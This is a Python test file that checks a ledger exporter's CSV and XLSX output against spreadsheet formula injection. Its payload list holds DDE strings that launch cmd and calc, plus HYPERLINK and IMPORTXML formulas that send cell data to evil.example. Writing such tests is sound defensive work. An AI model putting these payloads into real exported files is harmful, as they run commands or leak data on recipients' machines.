"""Cells that a spreadsheet would run: 60 of them in every text of a ledger, through every table and back."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from itertools import product

import pytest

from attacks.hostile import hostile_mark, hostile_reading
from reportedly.assess import assess
from reportedly.export import EXPORTERS
from reportedly.lineage import roots_of
from reportedly.records import LedgerView
from tiers import publish

pytestmark = pytest.mark.reliability

RUNS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1;"see")',
    'IMPORTXML("https://evil.example/","//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
)
BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
CELLS = (
    *("".join(each) for each in product(BEGINS, RUNS)),
    '";=1+1;"',
    '",=1+1,"',
    "x\n=1+1",
    "x\r\n=1+1",
    'DDE ("cmd";"/C calc";"1")',
)
RUNNING = tuple("=+-@\t\r\n＝＋－＠")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(E[+-]?[0-9]+)?")


def view() -> LedgerView:
    readings = [hostile_reading(each, number) for number, each in enumerate(CELLS)]
    reports = tuple(each.report for each in readings)
    roots = roots_of(reports, ())
    graded = [
        replace(
            row,
            verdict=each.report.title or "",
            reasons=(each.report.title or "",),
            airwars_why=each.report.outlet or "",
        )
        for each in readings
        for row in assess(each.incidents[0], each.claims, each.sources, reports, roots)
    ]
    return LedgerView(
        made_by=hostile_mark(CELLS[0]),
        reports=reports,
        sources=tuple(source for each in readings for source in each.sources),
        incidents=tuple(incident for each in readings for incident in each.incidents),
        claims=tuple(claim for each in readings for claim in each.claims),
        assessments=tuple(graded),
        skipped=tuple(row for each in readings for row in each.skipped),
    )


def tables(view: LedgerView) -> Iterator[tuple[str, bytes]]:
    """Every table of every format, by its name."""
    for name, exporter in EXPORTERS.items():
        for file in exporter().files(view):
            if file.name.endswith((".csv", ".xlsx")):
                sink = io.BytesIO()
                file.write(sink)
                yield f"{name}/{file.name}", sink.getvalue()


def test_there_are_enough_of_them() -> None:
    assert len(set(CELLS)) >= 60


def test_no_cell_runs() -> None:
    columns, cells, seen = set[str](), 0, set[str]()
    for name, raw in tables(view()):
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True))
            head, lines = rows[0], rows[1:]
            assert all(len(line) == len(head) for line in lines)
            for line in lines:
                for column, cell in zip(head, line, strict=True):
                    assert not cell.startswith(RUNNING) or NUMBER.fullmatch(cell), (name, column, cell)
                    columns.add(f"{name}: {column}")
                    seen.add(cell.removeprefix("'"))
                    cells += 1
        else:
            openpyxl = pytest.importorskip("openpyxl", reason="openpyxl writes the workbook")
            book = openpyxl.load_workbook(io.BytesIO(raw))
            for sheet in book.worksheets:
                for cell in (each for row in sheet.iter_rows() for each in row if each.value is not None):
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                    # The text as it is, with the mark that keeps it one when somebody edits it.
                    runs = cell.data_type == "s" and str(cell.value).startswith(RUNNING)
                    assert not runs or cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    assert cell.hyperlink is None
                    columns.add(f"{sheet.title}: {cell.column_letter}")
                    cells += 1
    # What stands in a table is the text itself, with an apostrophe in front, and not something else.
    assert {each for each in CELLS if each == " ".join(each.split())} <= seen
    publish(
        "cells that a spreadsheet would run",
        tried=cells,
        failed=0,
        note=f"{len(CELLS)} texts in every text of a ledger; {len(columns)} columns of CSV and XLSX re-read",
    )
